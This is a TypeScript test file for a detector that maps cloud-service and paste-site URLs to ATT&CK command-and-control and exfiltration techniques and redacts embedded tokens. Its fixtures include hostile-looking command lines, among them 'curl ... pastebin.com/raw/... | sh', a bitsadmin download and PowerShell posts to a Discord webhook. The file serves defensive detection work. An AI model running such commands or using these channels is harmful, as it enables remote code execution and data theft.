import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  API_SHAPES,
  API_SHAPE_KINDS,
  recogniseApiShape,
  redactSecrets,
  type ApiShapeFinding,
} from '../../../src/rules/evidence/api-shape.js';
import { extractCmdlineUrls } from '../../../src/rules/evidence/cmdline-urls.js';

const BOT = 'bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw';
const HOOK =
  '123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_-ab';

/** `kind service technique exfiltration operation`, `-` for what is absent. */
function summary(f: ApiShapeFinding | undefined): string | undefined {
  if (f === undefined) return undefined;
  return [f.kind, f.service, f.technique ?? '-', f.exfiltration ?? '-', f.operation ?? '-'].join(
    ' ',
  );
}

test('API shapes that show a specific abuse', () => {
  // [URL, summary]
  // prettier-ignore
  const cases: [string, string][] = [
    [`https://api.telegram.org/${BOT}/getUpdates`, 'telegram-bot-api Telegram T1102.002 - getUpdates'],
    [`https://api.telegram.org/${BOT}/sendMessage?chat_id=1&text=hi`, 'telegram-bot-api Telegram T1102.002 T1567 sendMessage'],
    [`https://api.telegram.org/${BOT}/sendDocument`, 'telegram-bot-api Telegram T1102.002 T1567 sendDocument'],
    [`api.telegram.org/file/${BOT}/documents/file_1.zip`, 'telegram-bot-api Telegram T1102.002 - file'],
    [`https://discord.com/api/webhooks/${HOOK}`, 'discord-webhook Discord - T1567.004 -'],
    [`https://discordapp.com/api/webhooks/${HOOK}`, 'discord-webhook Discord - T1567.004 -'],
    [`https://canary.discord.com/api/v10/webhooks/${HOOK}/`, 'discord-webhook Discord - T1567.004 -'],
    ['https://cdn.discordapp.com/attachments/1081/1082/payload.exe', 'discord-attachment Discord - - -'],
    ['https://media.discordapp.net/attachments/1081/1082/a.png', 'discord-attachment Discord - - -'],
    ['https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX', 'slack-webhook Slack - T1567.004 -'],
    ['https://slack.com/api/conversations.history?channel=C1', 'slack-api Slack T1102.002 - conversations.history'],
    ['https://slack.com/api/files.upload', 'slack-api Slack T1102.002 T1567 files.upload'],
    ['https://pastebin.com/raw/AbCd1234', 'paste-raw Pastebin T1102.001 - raw'],
    ['https://www.pastebin.com/raw/AbCd1234', 'paste-raw Pastebin T1102.001 - raw'],
    ['pastebin.com/dl/AbCd1234', 'paste-raw Pastebin T1102.001 - raw'],
    ['https://pastebin.com/raw.php?i=AbCd1234', 'paste-raw Pastebin T1102.001 - raw'],
    ['https://pastebin.com/api/api_post.php', 'paste-create Pastebin - T1567.003 -'],
    ['https://paste.ee/r/AbC12', 'paste-raw Paste.ee T1102.001 - raw'],
    ['https://paste.ee/r/AbC12/0', 'paste-raw Paste.ee T1102.001 - raw'],
    ['https://ghostbin.co/paste/abc12/raw', 'paste-raw Ghostbin T1102.001 - raw'],
    ['https://hastebin.com/raw/ebakulevab', 'paste-raw Hastebin T1102.001 - raw'],
    ['https://rentry.co/x7k2p/raw', 'paste-raw Rentry T1102.001 - raw'],
    ['https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md', 'github-raw GitHub T1102.001 - raw'],
    ['https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1047/bin/calc.dll', 'github-raw GitHub T1102.001 - raw'],
    ['https://gist.githubusercontent.com/someone/0123abcd/raw/x.txt', 'github-raw GitHub Gist T1102.001 - raw'],
    ['https://gist.github.com/someone/0123abcd/raw', 'github-raw GitHub Gist T1102.001 - raw'],
    ['https://api.github.com/repos/a/b/contents/cmd.txt', 'github-api GitHub T1102.002 - contents'],
    ['https://api.github.com/repos/a/b/issues/1/comments', 'github-api GitHub T1102.002 - issues'],
    ['https://api.github.com/gists', 'github-api GitHub T1102.002 - gists'],
    ['https://graph.microsoft.com/v1.0/me/drive/root:/c2/cmd.txt:/content', 'onedrive-api OneDrive T1102.002 - content'],
    ['https://graph.microsoft.com/v1.0/drives/b!abc/items/01ABC/content', 'onedrive-api OneDrive T1102.002 - content'],
    ['https://graph.microsoft.com/v1.0/me/drive/items/01ABC', 'onedrive-api OneDrive T1102.002 - -'],
    ['https://graph.microsoft.com/v1.0/shares/u!aHR0cHM6Ly8x/driveItem/content', 'onedrive-api OneDrive T1102.002 - content'],
    ['https://graph.microsoft.com/beta/users/u1/drive/root:/x.bin:/createUploadSession', 'onedrive-api OneDrive T1102.002 T1567.002 createUploadSession'],
    ['https://api.onedrive.com/v1.0/drive/root:/x.txt:/content', 'onedrive-api OneDrive T1102.002 - content'],
    ['https://content.dropboxapi.com/2/files/upload', 'dropbox-api Dropbox T1102.002 T1567.002 files/upload'],
    ['https://content.dropboxapi.com/2/files/download', 'dropbox-api Dropbox T1102.002 - files/download'],
    ['https://api.dropboxapi.com/2/files/list_folder', 'dropbox-api Dropbox T1102.002 - files/list_folder'],
    ['https://content.dropboxapi.com/2/files/upload_session/start', 'dropbox-api Dropbox T1102.002 T1567.002 files/upload_session/start'],
    ['https://www.googleapis.com/drive/v3/files?q=name', 'google-drive-api Google Drive T1102.002 - files'],
    ['https://www.googleapis.com/drive/v3/files/1AbC?alt=media', 'google-drive-api Google Drive T1102.002 - files'],
    ['https://www.googleapis.com/upload/drive/v3/files?uploadType=multipart', 'google-drive-api Google Drive T1102.002 T1567.002 upload'],
    ['https://drive.google.com/uc?export=download&id=1AbCdEfGhIjKlMnOp', 'google-drive-download Google Drive - - -'],
    ['https://drive.google.com/file/d/1AbCdEfGhIjKlMnOp/view', 'google-drive-download Google Drive - - -'],
    ['https://api.notion.com/v1/pages', 'notion-api Notion T1102.002 - pages'],
    ['https://api.notion.so/v1/blocks/abc/children', 'notion-api Notion T1102.002 - blocks'],
    ['https://x-default-rtdb.firebaseio.com/cmd.json', 'firebase-rtdb Firebase T1102.002 - -'],
    ['https://x-default-rtdb.europe-west1.firebasedatabase.app/out/1.json?auth=abc', 'firebase-rtdb Firebase T1102.002 - -'],
  ];
  for (const [url, expected] of cases) {
    const finding = recogniseApiShape(url);
    assert.equal(summary(finding), expected, url);
    assert.equal(finding?.url, url);
  }
});

test('near misses name no shape', () => {
  // prettier-ignore
  const cases: string[] = [
    'https://api.telegram.org/bot/sendMessage',
    'https://api.telegram.org/bot123456789:short/getUpdates',
    'https://api.telegram.org/',
    `https://api.telegram.org.evil.example/${BOT}/getUpdates`,
    `https://telegram.org/${BOT}/getUpdates`,
    'https://discord.com/api/webhooks/123456789012345678',
    'https://discord.com/channels/1/2',
    `https://notdiscord.com/api/webhooks/${HOOK}`,
    'https://cdn.discordapp.com/avatars/1/a.png',
    'https://hooks.slack.com/services/T000/B000',
    'https://slack.com/intl/en-gb/',
    'https://pastebin.com/',
    'https://pastebin.com/AbCd1234',
    'https://pastebin.com/raw.php',
    'https://pastebin.com.evil.example/raw/AbCd1234',
    'https://paste.ee/p/AbC12',
    'https://raw.githubusercontent.com/a/b',
    'https://github.com/redcanaryco/atomic-red-team',
    'https://github.com/a/b/blob/main/x.ps1',
    'https://avatars.githubusercontent.com/u/1?v=4',
    'https://api.github.com/users/octocat',
    'https://graph.microsoft.com/v1.0/me/messages',
    'https://graph.microsoft.com/v1.0/me',
    'https://graph.microsoft.com/v1.0/shares/u!abc/permission',
    'https://content.dropboxapi.com/1/files/auto/x',
    'https://www.dropbox.com/s/abc/x.exe?dl=1',
    'https://www.googleapis.com/oauth2/v4/token',
    'https://drive.google.com/uc?export=download',
    'https://api.notion.com/',
    'https://x-default-rtdb.firebaseio.com/',
    'https://firebaseio.com.evil.example/a.json',
    'https://evil.example/x.json',
    'not a url',
    '',
  ];
  for (const url of cases) assert.equal(summary(recogniseApiShape(url)), undefined, url);
});

test('the closed catalogue of shapes', () => {
  assert.deepEqual(Object.keys(API_SHAPES).sort(), [...API_SHAPE_KINDS].sort());
  for (const kind of API_SHAPE_KINDS) {
    const info = API_SHAPES[kind];
    assert.ok(info.service !== '' && info.summary !== '', kind);
    // A shape names a T1102 sub-technique, an exfiltration technique, or stages a payload.
    if (info.technique !== undefined) assert.match(info.technique, /^T1102\.00[12]$/, kind);
    if (info.exfiltration !== undefined)
      assert.match(info.exfiltration, /^T1567(\.00[234])?$/, kind);
  }
});

test('secrets are masked, shapes kept', () => {
  // prettier-ignore
  const cases: [string, string][] = [
    [
      `https://api.telegram.org/${BOT}/sendDocument`,
      'https://api.telegram.org/bot123456789:AAHd******************************/sendDocument',
    ],
    [
      `https://discord.com/api/webhooks/${HOOK}`,
      `https://discord.com/api/webhooks/123456789012345678/abcd${'*'.repeat(62)}`,
    ],
    [
      'https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/abcdefghijklmnopqrstuvwx',
      'https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/abcd********************',
    ],
    [
      'curl -H "Authorization: Bearer sl.B1234567890abcdefghijklmnop" https://content.dropboxapi.com/2/files/upload',
      'curl -H "Authorization: Bearer sl.B**************************" https://content.dropboxapi.com/2/files/upload',
    ],
    [
      'git clone https://ghp_0123456789abcdefghijABCDEFGHIJ012345@github.com/a/b',
      `git clone https://ghp_0123${'*'.repeat(32)}@github.com/a/b`,
    ],
    [
      'https://slack.com/api/chat.postMessage?token=xoxb-1234-5678-abcdefgh',
      `https://slack.com/api/chat.postMessage?token=xoxb${'*'.repeat(19)}`,
    ],
    [
      'https://www.googleapis.com/drive/v3/files?key=AIzaSyA1234567890abcdefghijklmnopqrstuv',
      `https://www.googleapis.com/drive/v3/files?key=AIza${'*'.repeat(35)}`,
    ],
    ['https://x-default-rtdb.firebaseio.com/a.json?auth=shortx', 'https://x-default-rtdb.firebaseio.com/a.json?auth=******'],
    ['https://pastebin.com/raw/AbCd1234', 'https://pastebin.com/raw/AbCd1234'],
    ['', ''],
  ];
  for (const [input, expected] of cases) {
    const out = redactSecrets(input);
    assert.equal(out, expected, input);
    assert.equal(out.length, input.length, 'the shape keeps its length');
  }
  // A redacted URL is for display only: it no longer carries a usable token.
  assert.equal(
    recogniseApiShape(redactSecrets(`https://api.telegram.org/${BOT}/getUpdates`))?.kind,
    undefined,
  );
});

test('URLs from command lines feed the shape recogniser', () => {
  // [command line, shape kinds of the URLs it fetches]
  // prettier-ignore
  const cases: [string, (string | undefined)[]][] = [
    [`powershell -c "Invoke-RestMethod -Uri https://api.telegram.org/${BOT}/getUpdates"`, ['telegram-bot-api']],
    [`powershell irm -Method Post -Uri https://discord.com/api/webhooks/${HOOK} -Body $b`, ['discord-webhook']],
    ['bitsadmin.exe  /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\\Users\\wardog\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1', ['github-raw']],
    ['powershell.exe iwr https://paste.ee/r/AbC12', ['paste-raw']],
    ['curl -sSL pastebin.com/raw/AbCd1234 | sh', ['paste-raw']],
    ['powershell.exe -nop -c iwr https://notdiscord.com/a', [undefined]],
  ];
  for (const [commandLine, kinds] of cases) {
    const urls = extractCmdlineUrls(commandLine);
    assert.deepEqual(
      urls.map((u) => recogniseApiShape(u.url)?.kind),
      kinds,
      commandLine,
    );
  }
});
